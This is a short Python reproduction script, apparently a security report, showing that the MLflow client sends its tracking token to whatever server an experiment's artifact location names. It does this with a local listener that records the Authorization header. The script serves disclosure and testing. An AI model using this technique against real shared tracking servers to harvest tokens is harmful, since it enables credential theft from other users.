"""MLflow: the client sends `MLFLOW_TRACKING_TOKEN` to any host that an artifact location names.

    pip install mlflow && python mlflow_token_to_other_hosts.py

A colleague who may create an experiment in a shared database gives it a location on a server of
theirs. Expected: the credential is sent to the tracking server only. Seen: that server gets it.
"""

import os
import tempfile
import threading
from http.server import BaseHTTPRequestHandler, HTTPServer

import mlflow

seen: list[str] = []


class Listener(BaseHTTPRequestHandler):
    """The colleague's server."""

    def do_PUT(self) -> None:
        """Note what the client sends."""
        seen.append(self.headers.get("Authorization", ""))
        self.rfile.read(int(self.headers.get("Content-Length", "0")))
        self.send_response(200)
        self.end_headers()

    def log_message(self, *_: object) -> None:
        """Print nothing."""


listener = HTTPServer(("127.0.0.1", 0), Listener)
threading.Thread(target=listener.serve_forever, daemon=True).start()

with tempfile.TemporaryDirectory() as folder:
    os.environ["MLFLOW_TRACKING_TOKEN"] = "secret of the tracking server"  # noqa: S105
    # As of a client that opens the shared database itself; other schemes are on by default.
    os.environ["MLFLOW_ALLOWED_HOST_ADDRESSED_ARTIFACT_SCHEMES"] = "http"
    mlflow.set_tracking_uri(f"sqlite:///{folder}/mlflow.db")
    location = f"http://127.0.0.1:{listener.server_port}/artifacts"
    mlflow.create_experiment("of a colleague", artifact_location=location)
    mlflow.set_experiment("of a colleague")
    with mlflow.start_run():
        mlflow.log_text("hello", "hello.txt")
listener.shutdown()
print("The other host got:", seen)
assert not any(seen)
